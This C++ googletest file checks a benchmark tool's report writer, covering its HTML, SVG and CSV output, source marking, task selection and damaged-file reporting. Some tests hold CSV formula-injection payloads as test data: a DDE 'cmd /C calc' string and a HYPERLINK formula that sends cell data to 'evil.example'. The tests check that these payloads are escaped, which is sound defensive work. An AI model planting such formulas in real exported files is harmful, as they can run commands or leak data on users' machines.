// croq report's files: figures, CSV tables that match the ledgers, the summary, and selection.
#include <gtest/gtest.h>

#include "croq/ledger/documents.hpp"
#include "croq/util/error.hpp"
#include "croq/util/fs.hpp"
#include "croq/web/report.hpp"
#include "support/test_support.hpp"
#include "support/web_support.hpp"

using namespace croq;
using namespace croq::web;
using croq::test::slurp;
using croq::test::TempDir;

namespace {

size_t lines(const std::string& s) { return static_cast<size_t>(std::count(s.begin(), s.end(), '\n')); }

}  // namespace

TEST(WebReport, WritesFiguresTablesAndASummaryPerTask) {
  TempDir dir;
  Workspace ws(dir.path());
  TaskRef a = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "search");
  TaskRef b = make_task("cpu_x86_64", "cpp", "matmul_f32_128x64x32", "search");
  test::store_rounds(ws, a, {110, 0, 150, 140});
  test::store_rounds(ws, b, {90, 95}, 80.0);
  ensure_task_config(ws, a, "uidaaaa11111");
  ReportOptions o;
  o.all = true;
  o.out = dir / "report";
  ReportResult r = write_report(ws, o);
  ASSERT_EQ(r.summary.size(), 2u);
  for (const char* f : {"index.html", "summary.csv", "convergence_all.svg",
                        "matmul_f32_64x64x64__search__cpp__cpu_x86_64/convergence.svg",
                        "matmul_f32_64x64x64__search__cpp__cpu_x86_64/progression.svg",
                        "matmul_f32_64x64x64__search__cpp__cpu_x86_64/bottlenecks.svg",
                        "matmul_f32_64x64x64__search__cpp__cpu_x86_64/rounds.csv",
                        "matmul_f32_64x64x64__search__cpp__cpu_x86_64/progression.csv",
                        "matmul_f32_64x64x64__search__cpp__cpu_x86_64/bottlenecks.csv"}) {
    EXPECT_TRUE(std::filesystem::exists(dir / "report" / f)) << f;
  }
  json sa;
  for (const auto& s : r.summary) {
    if (s["shape_key"] == "matmul_f32_64x64x64") sa = s;
  }
  EXPECT_EQ(sa["task_uid"], "uidaaaa11111");
  EXPECT_EQ(sa["baseline_tflops"], 100.0);
  EXPECT_EQ(sa["best_tflops"], 150.0);
  EXPECT_DOUBLE_EQ(sa["ratio"].get<double>(), 1.5);
  EXPECT_EQ(sa["keep"], 2);
  EXPECT_EQ(sa["discard"], 1);
  EXPECT_EQ(sa["failed"], 1);
  EXPECT_EQ(sa["rounds"], 4);
  std::string rounds = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64/rounds.csv");
  EXPECT_EQ(lines(rounds), 1u + 5u);  // header + baseline + 4 rounds
  std::string prog = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64/progression.csv");
  EXPECT_NE(prog.find(",KEEP,memory,latency_bound,150.000,150.000,"), std::string::npos) << prog;
  std::string summary = slurp(dir / "report/summary.csv");
  EXPECT_EQ(summary.rfind("task_uid,gpu,dsl,shape_key,model,mode,baseline_tflops,best_tflops,best_kernel,ratio", 0), 0u);
  std::string html = slurp(dir / "report/index.html");
  EXPECT_NE(html.find("<svg"), std::string::npos);
  EXPECT_NE(html.find("1.500×"), std::string::npos);
}

// Figures typed by hand (store-round --tflops: source reported) are named so in the summary and
// marked on the page, the ratio built on them too; before, they read as croq's measurements.
TEST(WebReport, TypedFiguresAreMarkedAsReported) {
  TempDir dir;
  Workspace ws(dir.path());
  TaskRef a = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "search");
  test::store_rounds(ws, a, {110, 150});
  ReportOptions o;
  o.all = true;
  o.out = dir / "report";
  ReportResult r = write_report(ws, o);
  ASSERT_EQ(r.summary.size(), 1u);
  EXPECT_EQ(r.summary[0]["baseline_source"], "reported");
  EXPECT_EQ(r.summary[0]["best_source"], "reported");
  std::string summary = slurp(dir / "report/summary.csv");
  EXPECT_NE(summary.find(",baseline_source,best_source\n"), std::string::npos) << summary;
  EXPECT_NE(summary.find(",reported,reported\n"), std::string::npos) << summary;
  std::string html = slurp(dir / "report/index.html");
  EXPECT_NE(html.find("150.0 <span class=\"warn small\""), std::string::npos) << html;
  EXPECT_NE(html.find("1.500× <span class=\"warn small\""), std::string::npos) << html;
  std::string conv = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64/convergence.svg");
  EXPECT_NE(conv.find("150 TFLOPS (reported)"), std::string::npos) << conv.substr(0, 2000);
}

TEST(WebReport, TasksAreChosenByUidKeyOrShape) {
  TempDir dir;
  Workspace ws(dir.path());
  TaskRef a = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "search");
  TaskRef b = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "agent");
  test::store_rounds(ws, a, {110});
  test::store_rounds(ws, b, {120});
  ensure_task_config(ws, a, "uidaaaa11111");
  ReportOptions o;
  o.out = dir / "r1";
  o.selectors = {"uidaaaa11111"};
  EXPECT_EQ(write_report(ws, o).summary.size(), 1u);
  o.selectors = {"matmul_f32_64x64x64"};
  EXPECT_EQ(write_report(ws, o).summary.size(), 2u);
  o.selectors = {b.id()};
  EXPECT_EQ(write_report(ws, o).summary[0]["model"], "agent");
  o.selectors = {"nothing_like_this"};
  try {
    write_report(ws, o);
    FAIL();
  } catch (const Error& e) {
    EXPECT_EQ(e.code(), ExitCode::not_found);
  }
  o.selectors = {};
  EXPECT_THROW(write_report(ws, o), Error);
}

TEST(WebReport, CsvQuotesWhatNeedsQuoting) {
  EXPECT_EQ(csv_field("plain"), "plain");
  EXPECT_EQ(csv_field("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(csv_field("two\nlines"), "\"two\nlines\"");
  EXPECT_EQ(csv_row({"x", "y,z"}), "x,\"y,z\"\n");
}

TEST(WebReport, FormulasStoredInTheLedgerReachTheCsvNeutralised) {
  TempDir dir;
  Workspace ws(dir.path());
  TaskRef a = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "search");
  test::store_rounds(ws, a, {110});
  Ledger ledger(ws, a);
  StoreRequest r;
  r.iter = "iter002";
  r.kernel = "iter002_formula";
  r.tflops = 120;
  r.decision = "KEEP";
  r.bottleneck = "mixed";
  r.expected_gain = "@SUM(1+1)*cmd|' /C calc'!A0";
  r.idea = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
  store_round(ledger, r, std::chrono::seconds(5));
  ReportOptions o;
  o.all = true;
  o.out = dir / "report";
  write_report(ws, o);
  for (const char* f : {"rounds.csv", "progression.csv"}) {
    std::string csv = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64" / f);
    EXPECT_NE(csv.find(",\"'=HYPERLINK("), std::string::npos) << f << ": " << csv;
    EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos) << f;
    EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos) << f;
  }
  std::string rounds = slurp(dir / "report/matmul_f32_64x64x64__search__cpp__cpu_x86_64/rounds.csv");
  EXPECT_NE(rounds.find(",\"'@SUM("), std::string::npos) << rounds;
}

TEST(WebReport, CsvCellsNeverRunAsFormulas) {
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil.example\",\"x\")"), "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\"");
  EXPECT_EQ(csv_field("+5%"), "\"'+5%\"");
  EXPECT_EQ(csv_field("-2+3"), "\"'-2+3\"");
  EXPECT_EQ(csv_field("@SUM(A1)"), "\"'@SUM(A1)\"");
  EXPECT_EQ(csv_field("\t=1+1"), "\"'\t=1+1\"");
  EXPECT_EQ(csv_field("\r=1+1"), "\"'\r=1+1\"");
  EXPECT_EQ(csv_field("=cmd|' /C calc'!A0"), "\"'=cmd|' /C calc'!A0\"");
  // Numbers stay numbers; other text is unchanged.
  EXPECT_EQ(csv_field("-1.5"), "-1.5");
  EXPECT_EQ(csv_field("+3"), "+3");
  EXPECT_EQ(csv_field("1e-3"), "1e-3");
  EXPECT_EQ(csv_field("a=b"), "a=b");
}

// A damaged file is named in the report (index.html and the result), not silently left out.
TEST(WebReport, DamagedFilesAreNamedInTheReport) {
  TempDir dir;
  Workspace ws(dir.path());
  TaskRef a = make_task("cpu_x86_64", "cpp", "matmul_f32_64x64x64", "search");
  test::store_rounds(ws, a, {110, 120});
  atomic_write(ws.task_config(a), "{ not json");
  append_line(ws.idea_log(a), "{\"round\": \"this is not a record\"}", false, {}, ws.root());
  ReportOptions o;
  o.all = true;
  o.out = dir / "report";
  ReportResult r = write_report(ws, o);
  ASSERT_EQ(r.summary.size(), 1u) << "the readable records are still reported";
  const std::string config = ws.display(ws.task_config(a));
  const std::string log = ws.display(ws.idea_log(a));
  ASSERT_EQ(r.problems.size(), 2u);
  EXPECT_NE(r.problems[0].find(config), std::string::npos) << r.problems[0];
  EXPECT_NE(r.problems[1].find(log), std::string::npos) << r.problems[1];
  std::string html = slurp(dir / "report/index.html");
  EXPECT_NE(html.find("Files that could not be read, records not counted (2)"), std::string::npos);
  EXPECT_NE(html.find(config), std::string::npos);
  EXPECT_NE(html.find(log), std::string::npos);
}
